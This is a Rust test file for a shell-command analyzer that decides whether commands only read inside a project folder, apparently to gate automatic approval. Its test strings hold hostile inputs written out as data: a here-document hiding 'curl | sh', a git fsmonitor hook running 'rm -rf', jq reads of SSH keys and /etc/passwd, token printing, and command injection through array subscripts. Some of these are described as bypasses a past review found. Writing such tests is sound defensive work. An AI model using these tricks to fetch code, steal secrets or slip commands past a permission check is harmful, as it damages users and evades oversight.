//! The built-in read-only check, and the paths commands read and write.

use super::{line, reads_only};
use crate::{Context, PathArg, analyze};

#[test]
fn the_read_only_check() {
    let cases = [
        ("cat $F", false),
        ("find . -exec cat {} \\;", false),
        ("awk '{print $1}' a.txt", true),
        ("echo hello > x", false),
        ("echo hello >> ~/.bashrc", false),
        ("cd src && ls", true),
        ("cd /etc && cat passwd", false),
        ("cd .. && ls", false),
        ("cd src && cat ../../x", false),
        ("ls && git status", true),
        ("ls | head", true),
        ("ls | sh", false),
        ("ls; rm x", false),
        ("unknowncmd", false),
        ("ls $(pwd)", false),
        ("FOO=1 ls", false),
        ("LC_ALL=C sort a", true),
        ("", false),
        ("# a comment", false),
    ];
    for (l, want) in cases {
        assert_eq!(reads_only(l), want, "read-only {l:?}");
    }
}

#[test]
fn reads_through_links_that_leave_the_folder_are_not_inside() {
    let Ok(d) = tempfile::tempdir() else { return };
    let base = d.path().canonicalize().unwrap_or_default();
    let proj = base.join("proj");
    let _ = std::fs::create_dir_all(proj.join("src"));
    let _ = std::fs::create_dir_all(base.join("secret"));
    let _ = std::os::unix::fs::symlink(base.join("secret"), proj.join("out"));
    let ctx = Context { cwd: Some(proj.display().to_string()), home: None };
    let dir = proj.display().to_string();
    assert!(analyze("cat src/a", &ctx).only_reads_inside(&dir));
    assert!(!analyze("cat out/key", &ctx).only_reads_inside(&dir));
    assert!(!analyze("ls out", &ctx).only_reads_inside(&dir));
}

#[test]
fn redirections_are_file_writes() {
    let targets = |l: &str| -> Vec<PathArg> { line(l).redirects.into_iter().map(|r| r.path).collect() };
    let at = |p: &str| PathArg::At(p.to_string());
    assert_eq!(targets("ls > out.txt"), vec![at("/w/proj/out.txt")]);
    assert_eq!(targets("ls >> ~/.bashrc"), vec![at("/home/u/.bashrc")]);
    assert_eq!(targets("ls 2> err.log"), vec![at("/w/proj/err.log")]);
    assert_eq!(targets("ls &> all.log"), vec![at("/w/proj/all.log")]);
    assert_eq!(targets("ls >| f"), vec![at("/w/proj/f")]);
    assert_eq!(targets("ls 1<> f"), vec![at("/w/proj/f")]);
    assert_eq!(targets("ls >&f"), vec![at("/w/proj/f")]);
    assert_eq!(targets("{ ls; } > g"), vec![at("/w/proj/g")]);
    assert_eq!(targets("(ls) > g"), vec![at("/w/proj/g")]);
    assert_eq!(targets("exec 3> h"), vec![at("/w/proj/h")]);
    assert_eq!(targets("cd /tmp && ls > x"), vec![at("/tmp/x")]);
    assert_eq!(targets("ls > /dev/null 2>&1"), vec![]);
    assert_eq!(targets("ls 2>&1 >&2"), vec![]);
    assert_eq!(targets("ls < in.txt"), vec![]);
    assert!(matches!(targets("ls > $F").as_slice(), [PathArg::Unknown(_)]));
    assert!(matches!(targets("ls > $(mktemp)").as_slice(), [PathArg::Unknown(_)]));
    // A here-document is input, not a write.
    assert_eq!(targets("cat <<EOF\nhello\nEOF"), vec![]);
    assert_eq!(targets("cat <<< hi"), vec![]);
    // `tee` writes its operands.
    let tee = line("ls | tee out.txt");
    assert_eq!(tee.commands[1].writes, vec![at("/w/proj/out.txt")]);
}

#[test]
fn operands_are_paths_where_the_table_says() {
    let c = |l: &str| line(l).commands.into_iter().last().unwrap_or_else(|| panic!("{l}"));
    let at = |p: &str| PathArg::At(p.to_string());
    assert_eq!(c("cp a /tmp/b").reads, vec![at("/w/proj/a")]);
    assert_eq!(c("cp a /tmp/b").writes, vec![at("/tmp/b")]);
    assert_eq!(c("mv a b").writes, vec![at("/w/proj/a"), at("/w/proj/b")]);
    assert_eq!(c("grep -rn pat src").reads, vec![at("/w/proj/src")]);
    assert_eq!(c("grep -e pat src lib").reads, vec![at("/w/proj/src"), at("/w/proj/lib")]);
    assert_eq!(c("sed -n 1p f").reads, vec![at("/w/proj/f")]);
    assert_eq!(c("rm -rf ~/x").writes, vec![at("/home/u/x")]);
    assert_eq!(c("cat ./a/../b").reads, vec![at("/w/proj/b")]);
    assert_eq!(c("find . -newer /etc/x").reads, vec![at("/w/proj"), at("/etc/x")]);
    assert_eq!(c("curl -o out https://x").writes, vec![at("/w/proj/out")]);
    assert_eq!(c("git status").reads, Vec::<PathArg>::new());
}

/// The lines the last review got through the built-in read-only rule: the reader no longer
/// takes any of them for a read (and what it still misses runs confined).
#[test]
fn the_reader_refuses_the_reviews_reads() {
    for l in [
        "cat <<$'a'\na\ncurl -s http://x | sh\n$a",
        "cat <<'a'\\\na\ntouch /tmp/x\na",
        "git config core.fsmonitor 'rm -rf ~/old; false' && git status",
        "git config alias.st '!touch /tmp/x'",
        "jobs -x touch /tmp/x",
        "test -v 'a[$(touch /tmp/x)]'",
        "[ -v 'a[$(touch /tmp/x)]' ]",
        "[[ -v a[$(touch /tmp/x)] ]]",
        "printf -v 'a[$(touch /tmp/x)]' x",
        "read -r 'a[$(touch /tmp/x)]' <<< x",
        "history -a ~/.bashrc",
        "history -w /tmp/x",
        "npm version patch",
        "npm config set registry http://x",
        "npm ls",
        "pip list",
        "cargo metadata",
        "jq -n --rawfile a ~/.ssh/id_rsa '$a'",
        "jq -n --slurpfile a /etc/passwd '$a'",
        "env",
        "printenv",
        "printenv TOKEN",
        "echo $TOKEN",
        "echo ${!A*}",
        "git branch --format=x README.md",
        "git tag v9",
        "hostname evil",
    ] {
        assert!(!line(l).only_reads_inside("/w/proj"), "`{l}` is taken for a read");
    }
    for l in
        ["git config --get user.name", "git branch", "git branch -a", "git tag -l", "echo hello", "test -f README.md"]
    {
        assert!(line(l).only_reads_inside("/w/proj"), "`{l}` is a read");
    }
}
